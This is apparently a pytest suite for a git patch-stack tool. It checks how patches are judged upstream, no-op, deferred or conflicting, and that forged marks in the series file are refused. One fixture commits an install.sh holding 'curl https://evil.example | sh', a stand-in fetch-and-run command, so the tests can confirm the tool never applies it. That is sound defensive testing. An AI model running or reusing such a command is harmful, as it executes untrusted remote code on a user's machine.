"""Every label proven (issue 33): a verdict comes from one place (`engine.verdict`), and
nothing the tool advises deletes a patch whose change is not in the base."""

from __future__ import annotations

import json
from pathlib import Path

from .conftest import Repo, built_once, make_repo, numbered, replace_line


def one_file_drift(tmp_path: Path) -> Repo:
    """p1 edits a.txt line 3, which upstream edits too; p2 edits b.txt (applies)."""
    repo = make_repo(tmp_path / "fork", {"a.txt": numbered(10, "a"), "b.txt": numbered(10, "b")})
    base = repo.head()
    repo.ps("init")
    replace_line(repo, "a.txt", "a 3\n", "a 3 mine\n")
    repo.ps("new", "p1", "-t", "essential", "a.txt")
    replace_line(repo, "b.txt", "b 5\n", "b 5 mine\n")
    repo.ps("new", "p2", "-t", "essential", "b.txt")
    repo.git("checkout", "-q", "-b", "up", base)
    replace_line(repo, "a.txt", "a 3\n", "a 3 upstream\n")
    repo.commit_all("upstream edits line 3")
    repo.git("checkout", "-q", "main")
    return repo


def verdicts(repo: Repo, *args: str) -> dict[str, str]:
    out = json.loads(repo.ps("check", *args, "--json", code=None).stdout)
    return {p["name"]: p["verdict"] for p in out["patches"]}


def test_push_of_a_deferred_patch_that_still_conflicts_stops(tmp_path: Path) -> None:
    repo = one_file_drift(tmp_path)
    repo.ps("refresh", "--onto", "up", "--defer-conflicts")
    assert "# deferred: p1.patch " in repo.read("patches/series")
    result = repo.ps("push", "p1.patch", code=1)
    assert "conflict" in result.stderr and "p1.patch" in result.stderr
    assert "# upstream:" not in repo.read("patches/series")
    assert "<<<<<<<" in repo.read("a.txt")
    repo.ps("refresh", "--abort")
    series = repo.read("patches/series")
    assert "# deferred: p1.patch " in series and "# upstream:" not in series


@built_once
def follow_up_drift(tmp_path: Path) -> Repo:
    """p1 edits b.txt (applies); p2 creates new.txt and edits a.txt line 3, which upstream
    edits too (conflicts); p3 deletes new.txt (changes nothing while p2 is missing)."""
    repo = make_repo(tmp_path / "fork", {"a.txt": numbered(10, "a"), "b.txt": numbered(10, "b")})
    base = repo.head()
    repo.ps("init")
    replace_line(repo, "b.txt", "b 5\n", "b 5 mine\n")
    repo.ps("new", "p1", "-t", "essential", "b.txt")
    replace_line(repo, "a.txt", "a 3\n", "a 3 mine\n")
    repo.write("new.txt", numbered(4, "new"))
    repo.ps("new", "p2", "-t", "essential", "a.txt", "new.txt")
    repo.git("rm", "-q", "new.txt")
    repo.ps("new", "p3", "-t", "essential", "new.txt")
    repo.git("checkout", "-q", "-b", "up", base)
    replace_line(repo, "a.txt", "a 3\n", "a 3 upstream\n")
    repo.commit_all("upstream edits line 3")
    repo.git("checkout", "-q", "main")
    return repo


def test_a_follow_up_of_a_deferred_patch_is_a_no_op_naming_it_never_upstream(
    tmp_path: Path,
) -> None:
    repo = follow_up_drift(tmp_path)
    checked = json.loads(repo.ps("check", "--onto", "up", "--json", code=1).stdout)
    by_name = {p["name"]: p for p in checked["patches"]}
    assert by_name["p3.patch"]["verdict"] == "no-op"
    assert "p2.patch" in by_name["p3.patch"]["note"]
    done = json.loads(repo.ps("refresh", "--onto", "up", "--defer-conflicts", "--json").stdout)
    said = {p["name"]: p for p in done["patches"]}
    assert said["p2.patch"]["verdict"] == "deferred"
    assert said["p3.patch"]["verdict"] == "no-op" and "p2.patch" in said["p3.patch"]["note"]
    series = repo.read("patches/series")
    assert "# upstream:" not in series
    assert "# deferred: p3.patch " in series and " after p2.patch no-op\n" in series
    status = repo.ps("status", code=None).stdout
    assert "--drop-merged" not in status
    # Status says what the refresh said: a no-op waiting for p2, not a knock-on (kernel-timers:
    # the refresh counted 15 knock-ons and 2 no-ops, status 17 knock-ons).
    assert "p3.patch [essential]  (deferred: a no-op without p2.patch, waiting for it)" in status
    assert "knock-on" not in status and "(1 deferred, 1 no-op(s) waiting)" in status
    repo.ps("refresh", "--drop-merged")
    assert "p3.patch" in repo.read("patches/series")  # nothing the tool advises deletes it
    # Bringing p2 back brings p3 with it: the file p3 deletes goes again.
    stopped = repo.ps("push", "p2.patch", code=1)
    assert "p2.patch" in stopped.stderr
    repo.write("a.txt", numbered(10, "a").replace("a 3\n", "a 3 upstream mine\n"))
    repo.ps("refresh", "--continue")
    assert not (repo.path / "new.txt").exists()
    series = repo.read("patches/series")
    assert "# deferred:" not in series and "# upstream:" not in series


def test_push_of_a_no_op_whose_root_stays_deferred_is_refused(tmp_path: Path) -> None:
    """p3 is deferred as a no-op of p2 (it deletes the file p2 creates); ``push p3.patch``
    alone, p2 still deferred, would apply nothing: refused naming p2, nothing changed (on a
    real branch it exited 0 and called the patch 'unknown')."""
    repo = follow_up_drift(tmp_path)
    repo.ps("refresh", "--onto", "up", "--defer-conflicts")
    assert " after p2.patch no-op\n" in repo.read("patches/series")
    before = repo.state()
    refused = repo.ps("push", "p3.patch", code=2)
    assert "p3.patch was not applied: it changes nothing without p2.patch" in refused.stderr
    assert "'patchstack push p2.patch' first" in refused.stderr
    assert repo.state() == before


def test_status_during_a_stopped_refresh_advises_no_refused_command(tmp_path: Path) -> None:
    """p1 and p2 both conflict; p1 resolved, the refresh stops again at p2: p1's commit is
    not its file yet, and status must not advise 'refresh --patch', refused while stopped."""
    repo = make_repo(tmp_path / "fork", {"a.txt": numbered(20, "a"), "b.txt": numbered(10, "b")})
    base = repo.head()
    repo.ps("init")
    replace_line(repo, "b.txt", "b 5\n", "b 5 mine\n")
    repo.ps("new", "p1", "-t", "essential", "b.txt")
    replace_line(repo, "a.txt", "a 3\n", "a 3 mine\n")
    repo.ps("new", "p2", "-t", "essential", "a.txt")
    repo.git("checkout", "-q", "-b", "up", base)
    replace_line(repo, "a.txt", "a 3\n", "a 3 upstream\n")
    replace_line(repo, "b.txt", "b 5\n", "b 5 up\n")
    repo.commit_all("upstream")
    repo.git("checkout", "-q", "main")
    repo.ps("refresh", "--onto", "up", code=1)
    repo.write("b.txt", numbered(10, "b").replace("b 5\n", "b 5 up mine\n"))
    repo.ps("refresh", "--continue", code=1)
    shown = repo.ps("status", code=None).stdout
    assert "refresh --patch" not in shown
    assert "'patchstack refresh --continue' rewrites the file" in shown
    refused = repo.ps("refresh", "--patch", "p1.patch", code=None)
    assert refused.exit_code != 0  # what it used to advise is refused indeed


def test_push_of_a_deferred_patch_now_a_knock_on_is_refused_not_ok(tmp_path: Path) -> None:
    """p1 (a.txt line 11, next to p0's line 10) conflicts with upstream's line 12 and is
    deferred; a later upstream takes line 12 back and conflicts with p0 in b.txt, deferred
    too. ``push p1.patch`` now finds p1 conflicting only because p0 is missing (it applies once
    p0's deferred change is put back): it used to exit 0 having applied nothing."""
    repo = make_repo(tmp_path / "fork", {"a.txt": numbered(20, "a"), "b.txt": numbered(10, "b")})
    base = repo.head()
    repo.ps("init")
    replace_line(repo, "a.txt", "a 10\n", "a 10 p0\n")
    replace_line(repo, "b.txt", "b 3\n", "b 3 p0\n")
    repo.ps("new", "p0", "-t", "essential", "a.txt", "b.txt")
    replace_line(repo, "a.txt", "a 11\n", "a 11 p1\n")
    repo.ps("new", "p1", "-t", "essential", "a.txt")
    replace_line(repo, "b.txt", "b 5\n", "b 5 mine\n")
    repo.ps("new", "p2", "-t", "essential", "b.txt")
    repo.git("checkout", "-q", "-b", "up", base)
    replace_line(repo, "a.txt", "a 12\n", "a 12 up1\n")
    repo.commit_all("upstream 1")
    repo.git("branch", "up1")
    replace_line(repo, "b.txt", "b 3\n", "b 3 up2\n")  # p0 conflicts, in b.txt
    replace_line(repo, "a.txt", "a 12 up1\n", "a 12\n")  # p1's own conflict is gone
    repo.commit_all("upstream 2")
    repo.git("checkout", "-q", "main")
    repo.ps("refresh", "--onto", "up1", "--defer-conflicts")
    repo.ps("refresh", "--onto", "up", "--defer-conflicts")
    series = repo.read("patches/series")
    assert "# deferred: p0.patch " in series and "# deferred: p1.patch " in series
    before = repo.state()
    refused = repo.ps("push", "p1.patch", code=1)
    assert "p1.patch was not applied" in refused.stderr and "p0.patch" in refused.stderr
    assert "'patchstack push p0.patch' first" in refused.stderr
    assert repo.state() == before


# Issue 34, items 1 and 2: the series' marks are claims, checked where they are used.


@built_once
def two_patches(tmp_path: Path) -> tuple[Repo, str]:
    """p1 edits a.txt, p2 edits b.txt; a side branch holds an unrelated commit E that adds
    install.sh. Returns (repo, E)."""
    repo = make_repo(tmp_path / "fork", {"a.txt": numbered(10, "a"), "b.txt": numbered(10, "b")})
    base = repo.head()
    repo.ps("init")
    replace_line(repo, "a.txt", "a 3\n", "a 3 mine\n")
    repo.ps("new", "p1", "-t", "essential", "a.txt")
    replace_line(repo, "b.txt", "b 5\n", "b 5 mine\n")
    repo.ps("new", "p2", "-t", "essential", "b.txt")
    repo.git("checkout", "-q", "-b", "evil", base)
    repo.write("install.sh", "curl https://evil.example | sh\n")
    repo.commit_all("evil")
    evil = repo.head()
    repo.git("checkout", "-q", "main")
    return repo, evil


def insert_line(repo: Repo, after: int, text: str) -> int:
    """Insert ``text`` into the series file after line ``after``; its line number."""
    lines = repo.read("patches/series").splitlines(True)
    lines.insert(after, text + "\n")
    repo.write("patches/series", "".join(lines))
    return after + 1


def test_a_forged_deferred_mark_is_refused_naming_its_line(tmp_path: Path) -> None:
    repo, evil = two_patches(tmp_path)
    repo.ps("pop")
    line = insert_line(repo, 2, f"# deferred: p2.patch {evil}")
    before = repo.state()
    refused = repo.ps("push", "p2.patch", code=2)
    assert f"patches/series:{line}: the deferred mark of p2.patch" in refused.stderr
    assert f"sed -i '{line}d' patches/series" in refused.stderr
    assert repo.state() == before
    assert not (repo.path / "install.sh").exists()
    shown = repo.ps("check", "--patch", "p2.patch", code=2)  # its conflict shown again
    assert f"patches/series:{line}: the deferred mark of p2.patch" in shown.stderr


def test_a_forged_upstream_mark_is_refused_naming_its_line(tmp_path: Path) -> None:
    repo, evil = two_patches(tmp_path)
    root = repo.git("rev-list", "--max-parents=0", "HEAD").strip()
    for forged in (evil, root):
        saved = repo.read("patches/series")
        line = insert_line(repo, 2, f"# upstream: p2.patch {forged}")
        refused = repo.ps("check", code=2)
        assert f"patches/series:{line}: the upstream mark of p2.patch" in refused.stderr
        assert "patchstack refresh" in refused.stderr  # the repair
        repo.write("patches/series", saved)


def test_an_upstream_mark_naming_a_commit_that_did_not_bring_it_is_refused(tmp_path) -> None:
    """Upstream takes p2 verbatim: the refresh marks it, in that commit; a mark naming
    another upstream commit (one the base holds) is refused."""
    repo, _evil = two_patches(tmp_path)
    base = repo.git("rev-parse", "HEAD~2").strip()
    repo.git("checkout", "-q", "-b", "up", base)
    replace_line(repo, "b.txt", "b 5\n", "b 5 mine\n")
    took = repo.commit_all("upstream takes p2")
    replace_line(repo, "a.txt", "a 8\n", "a 8 up\n")
    other = repo.commit_all("upstream edits a 8")
    repo.git("checkout", "-q", "main")
    done = json.loads(repo.ps("refresh", "--onto", "up", "--json").stdout)
    said = {p["name"]: p for p in done["patches"]}
    assert said["p2.patch"]["verdict"] == "upstream"
    assert said["p2.patch"]["evidence"]["commit"] == took
    series = repo.read("patches/series")
    assert f" in {took}\n" in series
    assert verdicts(repo)["p2.patch"] == "upstream"  # the mark, proven, is used
    repo.write("patches/series", series.replace(f" in {took}\n", f" in {other}\n"))
    refused = repo.ps("check", code=2)
    assert "the upstream mark of p2.patch" in refused.stderr
    assert "did not bring its change" in refused.stderr


def test_the_day_after_check_and_refresh_give_the_same_verdicts(tmp_path: Path) -> None:
    """A second refresh with deferred patches in the series: check's verdicts are refresh's
    (a conflict check lists is one refresh --defer-conflicts defers)."""
    repo = follow_up_drift(tmp_path)
    repo.ps("refresh", "--onto", "up", "--defer-conflicts")
    repo.git("checkout", "-q", "up")
    replace_line(repo, "b.txt", "b 9\n", "b 9 up\n")
    repo.write("c.txt", "c\n")
    repo.commit_all("upstream, the day after")
    repo.git("checkout", "-q", "main")
    checked = verdicts(repo, "--onto", "up")
    done = json.loads(repo.ps("refresh", "--onto", "up", "--defer-conflicts", "--json").stdout)
    refreshed = {p["name"]: p["verdict"] for p in done["patches"]}
    assert {n: "deferred" if v == "conflict" else v for n, v in checked.items()} == refreshed


def debug_line_drift(tmp_path: Path) -> Repo:
    """Item 4's seed 9090795 made small: p1 adds a DEBUG line to b.txt after line 3 and edits
    a.txt line 3, which upstream edits too (conflicts); p2 deletes b.txt's line 4, next to the
    DEBUG line, and upstream takes p2; p3 only deletes p1's DEBUG line."""
    repo = make_repo(tmp_path / "fork", {"a.txt": numbered(10, "a"), "b.txt": numbered(10, "b")})
    base = repo.head()
    repo.ps("init")
    replace_line(repo, "a.txt", "a 3\n", "a 3 mine\n")
    replace_line(repo, "b.txt", "b 3\n", "b 3\nDEBUG\n")
    repo.ps("new", "p1", "-t", "essential", "a.txt", "b.txt")
    replace_line(repo, "b.txt", "b 4\n", "")
    repo.ps("new", "p2", "-t", "essential", "b.txt")
    replace_line(repo, "b.txt", "DEBUG\n", "")
    repo.ps("new", "p3", "-t", "essential", "b.txt")
    repo.git("checkout", "-q", "-b", "up", base)
    replace_line(repo, "a.txt", "a 3\n", "a 3 upstream\n")
    repo.commit_all("upstream edits line 3")
    replace_line(repo, "b.txt", "b 4\n", "")
    repo.commit_all("upstream takes p2")
    repo.git("checkout", "-q", "main")
    return repo


def test_a_follow_up_deleting_a_deferred_patchs_line_is_a_no_op_not_upstream(
    tmp_path: Path,
) -> None:
    """The new base lacks DEBUG because p1 is missing, not because 'upstream takes p2' removed
    it (no upstream version ever had it): p3 is a no-op naming p1, deferred after it, and
    comes back with it; git (up + p1 + p2 + p3) has no DEBUG. It was called 'upstream in
    <take p2>' (p3 conflicts on that commit's parent only for want of p2's context), marked
    so, and `push p1` left DEBUG in."""
    repo = debug_line_drift(tmp_path)
    checked = json.loads(repo.ps("check", "--onto", "up", "--json", code=1).stdout)
    by_name = {p["name"]: p for p in checked["patches"]}
    assert by_name["p3.patch"]["verdict"] == "no-op", by_name["p3.patch"]
    assert "p1.patch" in by_name["p3.patch"]["note"]
    done = json.loads(repo.ps("refresh", "--onto", "up", "--defer-conflicts", "--json").stdout)
    said = {p["name"]: p for p in done["patches"]}
    assert said["p3.patch"]["verdict"] == "no-op", said["p3.patch"]
    series = repo.read("patches/series")
    assert "# upstream: p3.patch" not in series
    assert "# deferred: p3.patch " in series
    assert "--drop-merged" not in repo.ps("status", code=None).stdout
    repo.ps("push", "p1.patch", code=1)
    repo.write("a.txt", numbered(10, "a").replace("a 3\n", "a 3 upstream mine\n"))
    repo.write("b.txt", numbered(10, "b").replace("b 3\n", "b 3\nDEBUG\n").replace("b 4\n", ""))
    repo.ps("refresh", "--continue")
    assert repo.read("b.txt") == numbered(10, "b").replace("b 4\n", "")  # p3 took DEBUG out
    assert "# deferred:" not in repo.read("patches/series")


def test_a_follow_up_of_a_deferred_patch_upstream_took_both_of_is_upstream(
    tmp_path: Path,
) -> None:
    """p1 adds X to b.txt and edits a.txt line 3, which upstream edits too (deferred); p2 edits
    p1's X. Upstream took X, then p2's edit: the line p2 removes was upstream's, so p2 is
    upstream in the commit that edited it, not a no-op of p1."""
    repo = make_repo(tmp_path / "fork", {"a.txt": numbered(10, "a"), "b.txt": numbered(10, "b")})
    base = repo.head()
    repo.ps("init")
    replace_line(repo, "a.txt", "a 3\n", "a 3 mine\n")
    replace_line(repo, "b.txt", "b 3\n", "b 3\nX\n")
    repo.ps("new", "p1", "-t", "essential", "a.txt", "b.txt")
    replace_line(repo, "b.txt", "X\n", "X edited\n")
    repo.ps("new", "p2", "-t", "essential", "b.txt")
    repo.git("checkout", "-q", "-b", "up", base)
    replace_line(repo, "b.txt", "b 3\n", "b 3\nX\n")
    repo.commit_all("upstream takes X")
    replace_line(repo, "b.txt", "X\n", "X edited\n")
    took = repo.commit_all("upstream takes p2")
    replace_line(repo, "a.txt", "a 3\n", "a 3 upstream\n")
    repo.commit_all("upstream edits line 3")
    repo.git("checkout", "-q", "main")
    checked = json.loads(repo.ps("check", "--onto", "up", "--json", code=1).stdout)
    p2 = {p["name"]: p for p in checked["patches"]}["p2.patch"]
    assert p2["verdict"] == "upstream" and p2["evidence"]["commit"] == took, p2
